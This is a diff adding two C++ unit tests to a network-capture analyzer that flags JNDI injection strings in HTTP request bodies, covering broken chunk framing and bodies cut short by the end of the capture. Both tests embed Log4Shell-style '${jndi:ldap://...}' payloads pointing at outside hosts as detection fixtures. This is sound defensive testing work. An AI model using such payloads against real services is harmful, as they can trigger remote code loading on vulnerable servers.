@@ -106,6 +106,29 @@ TEST(CaptureAnalyzer, ChunkedFormBodyAndKeepAliveRequests) {
   EXPECT_EQ(r.detections[1].detection.jndi.at(0).scheme, "rmi");
 }
 
+TEST(CaptureAnalyzer, BrokenChunkFramingKeepsTheRestOfTheBody) {
+  Feeder feed;
+  Conn c{"198.51.100.7", 5556, "10.0.0.10", 80};
+  feed(c.C("POST /x HTTP/1.1\r\nTransfer-Encoding: chunked\r\n\r\n5\r\nhello"));
+  feed(c.C("XYZ=${jndi:ldap://9.9.9.9/c}"));  // no CRLF after the chunk: the framing is lost
+  feed(c.FinC());
+  CaptureResult r = feed.analyzer.Finish();
+  ASSERT_EQ(r.detections.size(), 1u);
+  EXPECT_EQ(r.detections[0].field, "body");
+  EXPECT_EQ(r.detections[0].detection.jndi.at(0).host, "9.9.9.9");
+}
+
+// Regression: a body whose last bytes had been consumed was never examined
+// when the stream ended before its declared length.
+TEST(CaptureAnalyzer, BodyCutShortByTheEndOfTheCaptureIsExamined) {
+  Feeder feed;
+  Conn c{"198.51.100.7", 5557, "10.0.0.10", 80};
+  feed(c.C("POST /x HTTP/1.1\r\nContent-Length: 500\r\n\r\nq=${jndi:ldap://9.9.9.8/c}"));
+  CaptureResult r = feed.analyzer.Finish();
+  ASSERT_EQ(r.detections.size(), 1u);
+  EXPECT_EQ(r.detections[0].field, "body");
+}
+
 TEST(CaptureAnalyzer, RawTcpAndUdpPayloadsAreExamined) {
   Feeder feed;
   Conn smtp{"192.0.2.9", 2525, "10.0.0.25", 25};
